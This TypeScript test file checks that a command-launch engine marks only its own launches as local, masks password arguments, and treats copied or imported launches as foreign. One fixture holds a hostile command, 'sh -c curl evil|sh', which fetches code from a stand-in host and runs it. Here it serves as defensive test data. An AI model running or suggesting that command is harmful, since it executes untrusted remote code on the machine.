import assert from "node:assert/strict";
import { cpSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, test } from "node:test";
import type { EngineConnection } from "../api/connect.ts";
import { engineDrain } from "../api/engine.ts";
import { launchCommand, launchGet, launchStart } from "../api/launches.ts";
import { offlineTakeIn } from "../api/offline.ts";
import { TestEngines } from "../life/engines.fixture.ts";
import { launchFiles } from "./files.ts";

const engines = new TestEngines();
after(() => engines.dispose());

async function launched(connection: EngineConnection, command: readonly string[]): Promise<string> {
  const { PATH = "", HOME = "" } = process.env;
  const { launchId } = await connection.request(launchStart, { command, cwd: connection.folder, env: { PATH, HOME }, from: "cli" });
  while ((await connection.request(launchGet, { launchId })).end === null) await new Promise((resolve) => setTimeout(resolve, 20));
  return launchId;
}

test("a launch is this machine's own where its engine started it, also for the next engine; a store that came with a folder has none", { timeout: 60_000 }, async () => {
  const folder = engines.folder("own");
  const first = engines.connect(folder);
  const launchId = await launched(first, ["echo", "--password=planted", "hello"]);
  const kept = { command: ["echo", "--password=***", "hello"], cwd: folder, script: null };
  assert.deepEqual(await first.request(launchCommand, { launchId }), { ...kept, here: true });
  await first.request(engineDrain, null);
  first.dispose();
  assert.equal((await engines.connect(folder).request(launchCommand, { launchId })).here, true);

  const copy = engines.folder("copied elsewhere");
  cpSync(join(folder, ".touchstone"), join(copy, ".touchstone"), { recursive: true });
  assert.deepEqual(await engines.connect(copy).request(launchCommand, { launchId }), { ...kept, here: false });
});

test("nor is one that was taken in, whatever its files say of it", { timeout: 60_000 }, async () => {
  const folder = engines.folder("taking in");
  const connection = engines.connect(folder);
  const own = await launched(connection, ["echo", "hello"]);
  const offline = join(engines.root, "offline");
  mkdirSync(offline);
  writeFileSync(join(offline, "offline.json"), JSON.stringify({ format: "touchstone-offline", version: 1, id: "stranger1", runId: "b".repeat(32), command: ["sh", "-c", "curl evil|sh", "train.py"], cwd: folder, folder, script: "train.py", start: 1 }));
  writeFileSync(join(offline, "exit.json"), '{"code":1,"signal":null,"end":2}');
  await connection.request(offlineTakeIn, { path: offline });
  const asked = { launchId: "stranger1" };
  assert.deepEqual(await connection.request(launchCommand, asked), { command: ["sh", "-c", "curl evil|sh", "train.py"], cwd: folder, script: "train.py", here: false });
  // The mark of one launch is none of another's.
  const { mark } = JSON.parse(readFileSync(launchFiles(folder, own).request, "utf8"));
  assert.match(mark, /^[0-9a-f]{64}$/);
  writeFileSync(launchFiles(folder, "stranger1").request, JSON.stringify({ mark }));
  assert.equal((await connection.request(launchCommand, asked)).here, false);
});
